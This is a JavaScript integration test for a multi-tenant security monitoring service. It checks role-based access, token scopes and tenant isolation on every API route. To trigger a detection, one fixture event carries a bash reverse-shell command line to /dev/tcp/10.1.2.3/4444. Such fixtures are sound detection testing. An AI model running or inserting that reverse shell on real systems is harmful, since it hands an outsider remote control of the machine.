// timeout: 900
// Walks every route of the contract with every role of two operators and two
// companies, with own, foreign and unknown ids, against the real centre. What
// is expected comes from centre/access_table.h alone. Nothing of the other
// tenant may stand in any answer.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:https';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';

import { operations, readAccess, readContract } from '../../scripts/generate-api.mjs';
import { until } from '../lib/client.mjs';
import { answerSchema, example, misfit } from '../lib/schema.mjs';
import { Centre, event } from '../wire/centre.mjs';

const TOP = resolve(import.meta.dirname ?? new URL('.', import.meta.url).pathname, '../..');
const contract = readContract(readFileSync(join(TOP, 'centre/openapi.yaml'), 'utf8'));
const access = readAccess(readFileSync(join(TOP, 'centre/access_table.h'), 'utf8'));
const routes = operations(contract, access);

const ROLES = ['applicant', 'owner', 'secretariat', 'city', 'expert', 'analyst', 'desk', 'contractor', 'diagnosis', 'administrator'];
const UNKNOWN = '01234567-89ab-7cde-8f01-23456789abcd';
/* Codes that say no; anything else means that the actor was let in. */
const REFUSED = new Set(['unauthenticated', 'session_over', 'bad_token', 'denied', 'session_only', 'scope_missing',
	'password_change_needed', 'csrf', 'not_found', 'certificate_missing', 'certificate_refused', 'device_revoked']);
/* At the end: they take away what the others need. */
const LAST = ['device_revoke', 'enrolment_token_revoke', 'token_revoke', 'password_change', 'session_end'];

/** @type {Centre} */
let centre;
/** One for each operator with its company: ids by kind, words that betray it. */
const tenants = [{}, {}];
/** {name, tenant, role, cookie | token, id, mustChange} */
const actors = [];
const invited = {};
const tokens = new Map(); /* actor's name: id of a token of its own */

const sha256 = (text) => createHash('sha256').update(text).digest('hex');
const secret = () => randomBytes(32).toString('base64url');
const csrfOf = (cookie) => sha256(`hikeshi csrf ${cookie}`);

let counted = 0;
const newId = () => `019aaaaa-0000-7000-8000-${(++counted).toString(16).padStart(12, '0')}`;

function sql(text) {
	const done = spawnSync('sqlite3', ['-cmd', '.timeout 10000', join(centre.data, 'store/records.sqlite')], { input: text, encoding: 'utf8' });
	if (done.status !== 0 || done.stderr) throw new Error(`sqlite3: ${done.stderr}\n${text}`);
	return done.stdout.trim().split('\n').filter(Boolean).map((line) => line.split('|'));
}

const quote = (value) => (value === null ? 'NULL' : typeof value === 'number' ? value : `'${String(value).replaceAll("'", "''")}'`);
const insert = (table, row) => `INSERT INTO ${table} (${Object.keys(row).join(', ')}) VALUES (${Object.values(row).map(quote).join(', ')});\n`;

/** One request with one actor's proof. Streams are cut after their head. */
function call(actor, { method, path, body, headers = {}, listener = 'people', tls = {} }) {
	const text = body === undefined ? undefined : Buffer.isBuffer(body) ? body : Buffer.from(JSON.stringify(body));
	const proof = actor?.token ? { Authorization: `Bearer ${actor.token}` }
		: actor?.cookie ? { Cookie: `__Host-hikeshi=${actor.cookie}`, ...(method === 'GET' ? {} : { 'Hikeshi-CSRF': csrfOf(actor.cookie) }) } : {};
	return new Promise((done, fail) => {
		const asked = request(new URL(path, listener === 'people' ? centre.people : centre.devices), {
			method, ca: readFileSync(centre.ca), ...tls,
			headers: { ...(text ? { 'Content-Type': 'application/json', 'Content-Length': text.length } : {}), ...proof, ...headers },
		}, (answer) => {
			const parts = [];
			const finish = () => {
				const all = Buffer.concat(parts).toString();
				const json = /^application\/json/.test(answer.headers['content-type'] ?? '') && all ? JSON.parse(all) : null;
				done({ status: answer.statusCode, headers: answer.headers, text: all, json, code: json?.error?.code ?? null });
			};
			if (/event-stream/.test(answer.headers['content-type'] ?? '')) {
				answer.destroy();
				finish();
				return;
			}
			answer.on('data', (part) => parts.push(part));
			answer.on('error', fail);
			answer.on('end', finish);
		});
		asked.setTimeout(30000, () => asked.destroy(new Error(`no answer to ${method} ${path}`)));
		asked.on('error', fail);
		asked.end(text);
	});
}

// ---- making two tenants with everything in them ----

function addPerson(tenant, role, name, bound) {
	const now = Date.now() * 1000;
	const actor = { name, tenant, role, id: newId(), cookie: secret() };
	const scope = { operator: null, programme: null, company: null, ...bound };
	sql(insert('person', { id: actor.id, mail: `${actor.id}@t${tenant}.example`, name: `${name}-of-tenant-${tenant}`, language: 'en',
			password: '!', must_change: 0, created_at: now })
		+ insert('person_role', { person: actor.id, role, ...scope })
		+ insert('session', { hash: sha256(actor.cookie), person: actor.id, created_at: now, seen_at: now, expires_at: now + 36e8, address: '' }));
	actors.push(actor);
	return actor;
}

function addToken(owner, name, scope, company = null) {
	const now = Date.now() * 1000;
	const actor = { ...owner, name, token: `hkt_${secret()}`, cookie: undefined, scope: new Set(scope), tokenId: newId() };
	sql(insert('api_token', { id: actor.tokenId, hash: sha256(actor.token), person: owner.id, name: `token-of-tenant-${owner.tenant}`,
		scope: scope.join(' '), company, created_at: now, expires_at: now + 36e8 }));
	actors.push(actor);
	return actor;
}

function makePeople() {
	for (const [number, tenant] of tenants.entries()) {
		for (const role of ROLES)
			addPerson(number, role, `${role}`, ['applicant', 'owner'].includes(role) ? { company: tenant.company } : { operator: tenant.operator });
		addPerson(number, 'analyst', 'programme analyst', { programme: tenant.programme });
		const analyst = actors.find((a) => a.tenant === number && a.role === 'analyst');
		const person = access.filter((row) => !row.who.includes('DEVICE') && !row.who.includes('PUBLIC')).map((row) => row.name);
		addToken(analyst, 'token with every right', person);
		addToken(analyst, 'token for incidents', ['incident.read']);
		const once = addPerson(number, 'analyst', 'one-time password', { operator: tenant.operator });
		once.mustChange = true;
		sql(`UPDATE person SET must_change = 1 WHERE id = '${once.id}';`);
	}
	for (const actor of actors.filter((a) => a.cookie)) {
		const id = newId();
		const now = Date.now() * 1000;
		sql(insert('api_token', { id, hash: sha256(secret()), person: actor.id, name: `own-token-of-tenant-${actor.tenant}`, scope: 'me.read', company: null, created_at: now, expires_at: now + 36e8 }));
		tokens.set(actor.name + actor.tenant, id);
	}
}

/** Device, event, detection, incident, action and tokens, through the centre's own doors. */
async function makeObjects(tenant, analyst) {
	const ask = async (method, path, body) => {
		const answer = await call(analyst, { method, path, body });
		assert.ok(answer.status < 300, `${method} ${path}: ${answer.status} ${answer.text}\n${centre.tail()}`);
		return answer.json;
	};
	const token = await ask('POST', '/v1/enrolment-tokens', { company: tenant.company });
	tenant.machine = centre.enrol(token.secret);
	tenant.device = tenant.machine.id;
	sql(`UPDATE device SET hostname = 'host-of-tenant-${tenant.number}' WHERE id = '${tenant.device}';`);
	tenant.enrolment_token = (await ask('POST', '/v1/enrolment-tokens', { company: tenant.company, user: `user-of-tenant-${tenant.number}` })).id;
	const sent = await tenant.machine.batch([event({
		Image: '/usr/bin/bash', CommandLine: `bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1" # secret-of-tenant-${tenant.number}`,
		ProcessGuid: `{0000000${tenant.number}-1111-2222-3333-444444444444}`, ParentImage: '/usr/bin/bash', ProcessId: 4242,
	})]);
	assert.equal(sent.status, 200, sent.text);
	const incidents = await until(20, async () => {
		const page = await ask('GET', '/v1/incidents');
		return page.items.length > 0 ? page.items : null;
	});
	assert.ok(incidents, 'no incident came of a reverse shell');
	tenant.incident = incidents[0].id;
	const detections = await ask('GET', `/v1/incidents/${tenant.incident}/detections`);
	tenant.detection = detections.items[0].id;
	tenant.event = detections.items[0].event;
	assert.ok(detections.items[0].why.some((reason) => reason.matched), 'why it matched');
	await ask('POST', `/v1/incidents/${tenant.incident}/notes`, { text: `note-of-tenant-${tenant.number}` });
	tenant.action = (await ask('POST', `/v1/devices/${tenant.device}/actions`, { kind: 'collect', reason: `reason-of-tenant-${tenant.number}` })).id;
}

/** What the programmes' engine, the outbox and the press keep, straight into the records. */
function makePapers(tenant) {
	const number = tenant.number, betrayed = `of-tenant-${number}`, now = Date.now() * 1000;
	Object.assign(tenant, { application: newId(), mail: newId(), report: newId(), report_job: newId(), course: 'edr',
		asked: newId(), visit: newId(), document: newId(), deliverable: 'policy', questionnaire: 'survey', session: 'briefing1' });
	const paper = `%PDF paper-${betrayed}`, digest = sha256(paper);
	Object.assign(tenant, { digest, article: newId() });
	mkdirSync(join(centre.data, 'store/uploads'), { recursive: true });
	writeFileSync(join(centre.data, 'store/uploads', digest), paper);
	sql(insert('programme_file', { programme: tenant.programme, version: 1, slug: `tenant-${number}`, published_at: now,
		source: readFileSync(join(TOP, 'programmes/2025-kihon.yaml'), 'utf8') })
		+ insert('application', { id: tenant.application, programme: tenant.programme, number: 1, number_text: `number-${betrayed}`, company: tenant.company,
			file_version: 1, version: 1, state: 'received', final: 0, actor: 'secretariat', entered_at: now, received_at: now, completed_at: 0,
			confirmed_at: 0, approved_at: 0, installed_at: 0, ended_at: 0, due_sort: 2147483647, due_hard: 0, wake_at: 0, name: `name-${betrayed}`,
			kana: `kana-${betrayed}`, contact: `contact-${betrayed}`, mail: `x@t${number}.example`, telephone: '03-0000-0000', search: 'x',
			token: secret(), address: '' })
		+ `INSERT INTO application_answer SELECT row, 0, 'courses', 'edr' FROM application WHERE id = '${tenant.application}';\n`
		+ insert('mail', { id: tenant.mail, recipient: `x@t${number}.example`, recipient_name: `mail-${betrayed}`, subject: `subject-${betrayed}`,
			body: `body-${betrayed}`, template: 'received', programme: tenant.programme, company: tenant.company, application: tenant.application,
			state: 4, created: now, next: 0, sent: 0, attempts: 1, problem: '', former: '' })
		+ insert('report', { id: tenant.report, company: tenant.company, participation: tenant.participation, number: 1, months: 3, from_day: 20270,
			to_day: 20300, made_at: now, pages: 1, bytes: 4, sha256: '', mood: 'calm', sentence: `sentence-${betrayed}`, read_at: null, read_by: null,
			figures: JSON.stringify({ sentence: `sentence-${betrayed}` }), pdf: '%PDF' })
		+ insert('asked', { id: tenant.asked, programme: tenant.programme, application: tenant.application, company: tenant.company,
			questionnaire: 'survey', day: 20270, since: 20270, anonymous: 0 })
		+ insert('sheet', { id: newId(), application: tenant.application, questionnaire: 'survey', version: '1', at: now, person: '', person_name: `sheet-${betrayed}` })
		+ insert('visit', { id: tenant.visit, programme: tenant.programme, application: tenant.application, company: tenant.company, course: 'guidance',
			number: 1, form: 'on_site', requested: 0, from_at: now, to_at: now + 36e8, expert: newId(), expert_name: `expert-${betrayed}`, reason: '', made_at: now, maker: '' })
		+ insert('document', { id: tenant.document, programme: tenant.programme, application: tenant.application, company: tenant.company, kind: 'policy',
			version: 1, state: 'published', file: `${digest} ${paper.length} paper-${betrayed}.pdf`, note: `note-${betrayed}`, url: 'https://example.jp/p',
			person: '', person_name: `writer-${betrayed}`, at: now })
		+ insert('upload', { digest, bytes: paper.length, type: 'pdf', kept_at: now })
		+ insert('upload_used', { number: number + 1, kind: 'application', object: tenant.application, field: 'paper', digest, name: `paper-${betrayed}.pdf`, at: now })
		+ insert('article', { number: number + 1, id: tenant.article, programme: tenant.programme, kind: 'news', day: 20270, title: `title-${betrayed}`,
			text: `article-${betrayed}`, title_en: null, text_en: null, published: 0, actor: '', changed_at: now, is_last: 1 })
		+ insert('hearing', { application: tenant.application, programme: tenant.programme, company: tenant.company, state: 'candidate', note: `hearing-${betrayed}`,
			at: now, person: '', person_name: '' })
		+ insert('report_job', { id: tenant.report_job, programme: tenant.programme, from_day: 20270, to_day: 20300, made_at: now, actor: '' }));
}

/** A link for a company that is nobody's here: whoever holds it may see what it is for. */
function makeInvitation() {
	const company = newId(), now = Date.now() * 1000;
	invited.secret = `hki_${secret()}`;
	sql(insert('company', { id: company, name: 'invited', name_kana: 'invited', address: '', created_at: now })
		+ insert('invitation', { hash: sha256(invited.secret), mail: 'nobody@invited.example', name: '', company, role: 'owner', programme: null,
			application: null, made_at: now, expires_at: now + 36e8, used_at: null, person: null }));
}

before(async () => {
	centre = new Centre({ arguments: ['--rules', join(TOP, 'rules/sigma')] });
	centre.sample();
	await centre.start();
	const rows = sql('SELECT o.id, o.name, g.id, g.name, c.id, c.name, p.id FROM participation p JOIN programme g ON g.id = p.programme'
		+ ' JOIN operator o ON o.id = g.operator JOIN company c ON c.id = p.company ORDER BY p.id;');
	assert.equal(rows.length, 2);
	for (const [number, row] of rows.entries())
		Object.assign(tenants[number], { number, operator: row[0], operatorName: row[1], programme: row[2], programmeName: row[3],
			company: row[4], companyName: row[5], participation: row[6] });
	makePeople();
	for (const tenant of tenants)
		await makeObjects(tenant, actors.find((a) => a.tenant === tenant.number && a.role === 'analyst'));
	for (const tenant of tenants)
		makePapers(tenant);
	makeInvitation();
	for (const tenant of tenants) {
		tenant.people = sql(`SELECT id FROM person WHERE mail LIKE '%@t${tenant.number}.example';`).map(([id]) => id);
		tenant.words = [...['operator', 'programme', 'company', 'participation', 'device', 'enrolment_token', 'incident', 'detection', 'event', 'action',
			'application', 'mail', 'report', 'report_job', 'asked', 'visit', 'document'].map((kind) => tenant[kind]), ...tenant.people, tenant.operatorName, tenant.programmeName, tenant.companyName,
		`of-tenant-${tenant.number}`, `@t${tenant.number}.example`];
	}
});
after(() => centre?.done());

// ---- what the table says ----

function roleMay(actor, row) {
	if (row.who.includes('PUBLIC')) return true;
	if (row.who.includes('DEVICE')) return false;
	return row.who.includes('SIGNED_IN') || row.who.includes(actor.role.toUpperCase());
}

/** 'in' or the codes that are right. whose: own, foreign, unknown, none. */
function expected(actor, route, whose) {
	const row = route.action;
	if (row.who.includes('PUBLIC')) return ['in'];
	if (!actor) return ['unauthenticated'];
	if (actor.mustChange && !row.who.includes('SIGNED_IN')) return ['password_change_needed'];
	if (actor.token && row.flags.includes('SESSION_ONLY')) return ['denied', 'session_only'];
	if (actor.token && !actor.scope.has(row.name)) return ['denied', 'scope_missing'];
	if (!roleMay(actor, row)) return ['denied'];
	return whose === 'foreign' || whose === 'unknown' ? ['not_found'] : ['in'];
}

const place = (actor, kind, whose) => {
	const tenant = tenants[actor ? actor.tenant : 0], other = tenants[1 - tenant.number];
	if (whose === 'unknown') return UNKNOWN;
	if (kind === 'token') {
		if (whose === 'own') return tokens.get(`${actor?.name}${actor?.tenant}`) ?? actor?.tokenId ?? UNKNOWN;
		return tokens.get(`analyst${other.number}`);
	}
	return (whose === 'own' ? tenant : other)[kind];
};

/** The request of a route with own, foreign or unknown ids. */
function wanted(actor, route, whose) {
	const tenant = tenants[actor ? actor.tenant : 0];
	const needed = route.parameters.filter((one) => one.in === 'query' && one.required).map((one) => `${one.name}=${one.name === 'field' ? 'event.field' : '2025-07-01'}`).join('&');
	const path = route.path.replace(/\{([a-z_]+)\}/g, (_, name) => (name === route.object?.param ? place(actor, route.object.kind, whose)
		: place(actor, name, 'own'))) + (needed && `?${needed}`);
	const own = { company: tenant.company, person: null, current: 'not the password', new: 'another one entirely', version: 1,
		kind: 'collect', state: 'investigating', scope: ['me.read'], mail: 'nobody@nowhere.example', language: 'en',
		programme: tenant.programme, secret: invited.secret, day: '2025-07-01', from: '2025-07-01', to: '2025-07-31' };
	const body = route.body?.schema ? example(contract, resolveBody(route), own) : undefined;
	return { method: route.method.toUpperCase(), path, body };
}

const resolveBody = (route) => {
	const operation = contract.paths[route.path][route.method];
	const body = operation.requestBody.$ref ? contract.components.requestBodies[operation.requestBody.$ref.split('/').pop()] : operation.requestBody;
	return body.content['application/json'].schema;
};

function nothingForeign(actor, answer, what) {
	const other = actor ? [tenants[1 - actor.tenant]] : tenants;
	/* An id that one's own people typed in vain stands on one's own trail. */
	const text = answer.text.replace(/"object":\{[^}]*\}(?=,"company":[^]{0,200}?"reason":"foreign")/g, '');
	const all = text + JSON.stringify(answer.headers);
	for (const tenant of other)
		for (const word of tenant.words)
			assert.ok(!all.includes(word), `${what} shows ${word} of tenant ${tenant.number}: ${all.slice(0, 400)}`);
}

async function check(actor, route, whose, more = {}) {
	const asked = { ...wanted(actor, route, whose), ...more };
	const what = `${actor ? `${actor.name} of tenant ${actor.tenant}` : 'nobody'}: ${asked.method} ${asked.path} (${whose})`;
	const answer = await call(actor, asked);
	const right = expected(actor, route, whose);
	const let_in = answer.code === null || !REFUSED.has(answer.code);
	assert.ok(right[0] === 'in' ? let_in : right.includes(answer.code),
		`${what}: expected ${right.join(' or ')}, got ${answer.status} ${answer.text.slice(0, 300)}`);
	assert.ok(answer.status < 500, `${what}: ${answer.status} ${answer.text.slice(0, 300)}`);
	if (right[0] === 'in' && asked.method === 'GET' && route.id !== 'live' && !more.path)
		assert.equal(answer.status, 200, `${what}: ${answer.text.slice(0, 300)}`);
	if (answer.json) {
		const schema = answerSchema(contract, route, answer.status);
		assert.ok(schema, `${what}: status ${answer.status} has no schema`);
		assert.equal(misfit(contract, schema, answer.json), null, what);
	}
	nothingForeign(actor, answer, what);
	return answer;
}

// ---- the walk ----

const people = routes.filter((route) => route.listener === 'people');
const walk = [...people.filter((route) => !LAST.includes(route.id)), ...LAST.map((id) => routes.find((route) => route.id === id))];

test('the table of people\'s routes is not empty and whole', () => {
	assert.ok(people.length > 35);
	assert.equal(walk.length, people.length);
});

for (const route of routes.filter((one) => one.listener === 'devices'))
	test(`${route.method.toUpperCase()} ${route.path} on the devices' port`, async () => {
		const tls = { cert: tenants[0].machine.tls.cert, key: tenants[0].machine.tls.key };
		const query = route.id === 'order_list' ? '?after=0&wait=0' : '';
		const asked = { method: route.method.toUpperCase(), path: route.path + query, listener: 'devices' };
		const bare = await call(null, asked);
		assert.equal(bare.code, 'certificate_missing', bare.text);
		const signed = await call(actors[0], asked); /* a session is nothing here */
		assert.equal(signed.code, 'certificate_missing', signed.text);
		const device = await call(null, { ...asked, tls });
		assert.ok(!REFUSED.has(device.code), device.text);
		nothingForeign({ tenant: 0 }, device, route.id);
		/* on the people's port there is no such route, whatever headers say */
		const wrong = await call(actors[0], { ...asked, listener: 'people',
			headers: { 'X-Client-Verify': 'SUCCESS', 'X-Client-Serial': '00' } });
		assert.equal(wrong.code, 'not_found', wrong.text);
	});

test('people\'s routes are not on the devices\' port', async () => {
	const tls = { cert: tenants[0].machine.tls.cert, key: tenants[0].machine.tls.key };
	for (const route of people) {
		const answer = await call(actors.find((a) => a.role === 'analyst'), { ...wanted(actors[0], route, 'own'), listener: 'devices', tls });
		assert.equal(answer.code, 'not_found', `${route.id}: ${answer.text}`);
	}
});

test('a certificate of one device does not speak for another company', async () => {
	const sent = await tenants[0].machine.batch([event({ hikeshi: { company: tenants[1].company, device: tenants[1].device }, CommandLine: 'echo planted' })]);
	assert.equal(sent.status, 200);
	const rows = await until(10, async () => {
		const answer = await call(actors.find((a) => a.tenant === 1 && a.role === 'analyst'), { method: 'GET', path: '/v1/detections' });
		return answer.json.items;
	});
	assert.ok(!JSON.stringify(rows).includes('planted'));
});

test('a foreign company as a parameter is not there', async () => {
	for (const route of people.filter((one) => one.parameters.some((p) => p.in === 'query' && p.name === 'company')))
		for (const actor of actors.filter((a) => !a.mustChange)) {
			if (expected(actor, route, 'none')[0] !== 'in') continue;
			for (const company of [tenants[1 - actor.tenant].company, UNKNOWN]) {
				const answer = await call(actor, { method: 'GET', path: `${route.path}?company=${company}` });
				if (route.id === 'audit_list' && answer.status === 200) assert.deepEqual(answer.json.items, []);
				else assert.equal(answer.code, 'not_found', `${route.id} ${actor.name}: ${answer.text}`);
				nothingForeign(actor, answer, route.id);
			}
		}
});

test('foreign ids in other parameters find nothing', async () => {
	for (const route of people)
		for (const parameter of route.parameters.filter((p) => p.in === 'query' && ['device', 'object', 'assignee', 'programme', 'application'].includes(p.name)))
			for (const actor of actors.filter((a) => a.role === 'analyst' && !a.mustChange)) {
				if (expected(actor, route, 'none')[0] !== 'in') continue;
				const other = tenants[1 - actor.tenant];
				const id = parameter.name === 'assignee' ? other.people[0] : other[parameter.name] ?? other.device;
				const answer = await call(actor, { method: 'GET', path: `${route.path}?${parameter.name}=${id}` });
				assert.equal(answer.status, 200, `${route.id}: ${answer.text}`);
				/* What the actor itself asked for on the trail is its own. */
				if (parameter.name !== 'object') assert.deepEqual(answer.json.items, [], route.id);
			}
});

for (const route of walk)
	test(`${route.method.toUpperCase()} ${route.path}`, async () => {
		for (const actor of [null, ...actors])
			for (const whose of route.object ? ['foreign', 'unknown', 'own'] : ['none'])
				await check(actor, route, whose);
	});

test('foreign ids in bodies are refused', async () => {
	const analyst = actors.find((a) => a.tenant === 0 && a.role === 'analyst' && a.name === 'programme analyst');
	const other = tenants[1];
	const cases = [
		['POST', '/v1/enrolment-tokens', { company: other.company }, 'not_found'],
		['POST', '/v1/enrolment-tokens', { company: UNKNOWN }, 'not_found'],
		['POST', '/v1/enrolment-tokens', { company: tenants[0].company, participation: other.participation }, 'participation_other'],
		['PUT', `/v1/incidents/${tenants[0].incident}/assignee`, { person: other.people[5], version: 1 }, 'unknown_person'],
	];
	const fresh = addPerson(0, 'analyst', 'fresh analyst', { operator: tenants[0].operator });
	cases.push(['POST', '/v1/tokens', { name: 'x', scope: ['incident.read'], company: other.company }, 'not_found', fresh]);
	cases.push(['POST', '/v1/enrolment-tokens', { company: other.company }, 'not_found', fresh]);
	for (const [method, path, body, code, who = fresh] of cases) {
		const answer = await call(who ?? analyst, { method, path, body });
		assert.equal(answer.code, code, `${method} ${path}: ${answer.text}`);
		nothingForeign(who ?? analyst, answer, path);
	}
});

test('a token gives no right that its person has not', async () => {
	const owner = addPerson(0, 'owner', 'fresh owner', { company: tenants[0].company });
	for (const row of access) {
		const may = roleMay(owner, row) && !row.flags.includes('SESSION_ONLY');
		const answer = await call(owner, { method: 'POST', path: '/v1/tokens', body: { name: 'x', scope: [row.name] } });
		assert.equal(answer.code, may ? null : 'unknown_scope', `${row.name}: ${answer.text}`);
	}
});

test('an operator no longer sees a company whose participation ended', async () => {
	const analyst = addPerson(0, 'analyst', 'late analyst', { operator: tenants[0].operator });
	const owner = addPerson(0, 'owner', 'late owner', { company: tenants[0].company });
	const paths = (t) => [`/v1/companies/${t.company}`, `/v1/devices/${t.device}`, `/v1/incidents/${t.incident}`, `/v1/companies/${t.company}/events/${t.event}`];
	for (const path of paths(tenants[0])) assert.equal((await call(analyst, { method: 'GET', path })).status, 200, path);
	sql(`UPDATE participation SET ended_at = 1 WHERE id = '${tenants[0].participation}';`);
	for (const path of paths(tenants[0])) {
		assert.equal((await call(analyst, { method: 'GET', path })).code, 'not_found', path);
		assert.equal((await call(owner, { method: 'GET', path })).status, 200, path);
	}
	const list = await call(analyst, { method: 'GET', path: '/v1/incidents' });
	assert.deepEqual(list.json.items, []);
	sql(`UPDATE participation SET ended_at = NULL WHERE id = '${tenants[0].participation}';`);
});

test('what was refused is on the trail of the one who tried, and the chain holds', async () => {
	const administrator = addPerson(1, 'administrator', 'late administrator', { operator: tenants[1].operator });
	const page = await call(administrator, { method: 'GET', path: '/v1/audit?result=refused&limit=200' });
	assert.ok(page.json.items.some((row) => row.reason === 'foreign'), 'a foreign id');
	assert.ok(page.json.items.some((row) => row.reason === 'role'), 'a missing role');
	const verified = await call(administrator, { method: 'GET', path: '/v1/audit/verification' });
	assert.equal(verified.json.intact, true);
	/* The other's ids stand there only where this operator's people wrote them into a request. */
	for (const row of page.json.items)
		assert.ok(row.company === null || row.company.id === tenants[1].company);
});

test('a company in programmes of two operators: the papers of each are its own', async () => {
	const company = newId(), paper = {};
	sql(insert('company', { id: company, name: 'shared', name_kana: 'shared', address: '', created_at: 1 }));
	for (const tenant of tenants) {
		const own = paper[tenant.number] = { participation: newId(), report: newId(), application: newId(), mail: newId() };
		sql(insert('participation', { id: own.participation, company, programme: tenant.programme, course: 'edr', since_at: 1, ended_at: null })
			+ `CREATE TEMP TABLE r AS SELECT * FROM report WHERE id = '${tenant.report}'; UPDATE r SET id = '${own.report}', company = '${company}',
				participation = '${own.participation}'; INSERT INTO report SELECT * FROM r;
			CREATE TEMP TABLE a AS SELECT * FROM application WHERE id = '${tenant.application}'; UPDATE a SET row = NULL, id = '${own.application}', number = 2,
				number_text = 'shared-${tenant.number}', company = '${company}', token = '${secret()}'; INSERT INTO application SELECT * FROM a;
			CREATE TEMP TABLE m AS SELECT * FROM mail WHERE id = '${tenant.mail}'; UPDATE m SET row = NULL, id = '${own.mail}', company = '${company}',
				application = '${own.application}'; INSERT INTO mail SELECT * FROM m;`);
	}
	const kinds = [['report', '/v1/reports'], ['application', '/v1/applications'], ['mail', '/v1/mails']];
	const see = async (actor, wanted) => {
		for (const [kind, path] of kinds) {
			for (const filter of ['', kind === 'report' ? `?company=${company}` : '']) {
				const list = await call(actor, { method: 'GET', path: path + filter });
				if (list.code === 'denied') continue;
				assert.equal(list.status, 200, `${actor.name} ${path}: ${list.text}`);
				const found = list.json.items.map((row) => row.id);
				for (const tenant of tenants)
					assert.equal(found.includes(paper[tenant.number][kind]), wanted.includes(tenant.number), `${actor.name} ${path}${filter}: of tenant ${tenant.number}`);
			}
			for (const tenant of tenants) {
				const one = await call(actor, { method: 'GET', path: `${path}/${paper[tenant.number][kind]}` });
				if (one.code === 'denied') continue;
				assert.equal(one.status, wanted.includes(tenant.number) ? 200 : 404, `${actor.name} ${path} of tenant ${tenant.number}: ${one.text}`);
			}
		}
	};
	for (const { number, operator, programme } of tenants) {
		await see(addPerson(number, 'secretariat', 'sharing secretariat', { operator }), [number]);
		await see(addPerson(number, 'analyst', 'sharing analyst', { operator }), [number]);
		const person = addPerson(number, 'analyst', 'sharing programme analyst', { programme });
		await see(person, [number]);
		await see(addToken(person, 'sharing token', ['report.read'], company), [number]);
		assert.deepEqual((await call(addToken(person, 'another token', ['report.read'], tenants[number].company), { method: 'GET', path: '/v1/reports' }))
			.json.items.filter((row) => row.company.id === company), []);
	}
	await see(addPerson(0, 'owner', 'sharing owner', { company }), [0, 1]);
	sql(`UPDATE participation SET ended_at = 2 WHERE company = '${company}';`);
});

test('an operator with more companies than one statement has parameters', async () => {
	const analyst = addPerson(0, 'analyst', 'busy analyst', { operator: tenants[0].operator });
	let text = '';
	for (let i = 0; i < 1200; i++) {
		const id = newId();
		text += insert('company', { id, name: `many ${i}`, name_kana: `many ${i}`, address: '', created_at: 1 })
			+ insert('participation', { id: newId(), company: id, programme: tenants[0].programme, course: 'EDR', since_at: 1, ended_at: null });
	}
	sql(`BEGIN; ${text} COMMIT;`);
	for (const path of ['companies', 'devices', 'enrolment-tokens', 'incidents', 'incidents/counters', 'detections', 'audit']) {
		const answer = await call(analyst, { method: 'GET', path: `/v1/${path}` });
		assert.equal(answer.status, 200, `${path}: ${answer.text}`);
		nothingForeign(analyst, answer, path);
	}
	const seen = new Set();
	for (let next = ''; next !== null;) {
		const page = await call(analyst, { method: 'GET', path: `/v1/companies?limit=200${next && `&cursor=${next}`}` });
		for (const row of page.json.items) seen.add(row.id);
		next = page.json.next;
	}
	assert.equal(seen.size, 1201);
});

test('a route that is added without access is refused', () => {
	const text = readFileSync(join(TOP, 'centre/openapi.yaml'), 'utf8');
	const added = (lines) => text.replace('\npaths:\n', `\npaths:\n${lines}`);
	const answer = '      responses: { "200": { description: x } }\n';
	assert.throws(() => operations(readContract(added(`  /v1/new:\n    get:\n      operationId: new_one\n${answer}`)), access), /no x-access/);
	assert.throws(() => operations(readContract(added(`  /v1/new:\n    get:\n      operationId: new_one\n      x-access: new.read\n${answer}`)), access), /not in access_table/);
	assert.throws(() => operations(readContract(added(`  /v1/new/{device}:\n    get:\n      operationId: new_one\n      x-access: device.read\n      parameters: [{ $ref: "#/components/parameters/DevicePath" }]\n${answer}`)), access), /needs x-object/);
});
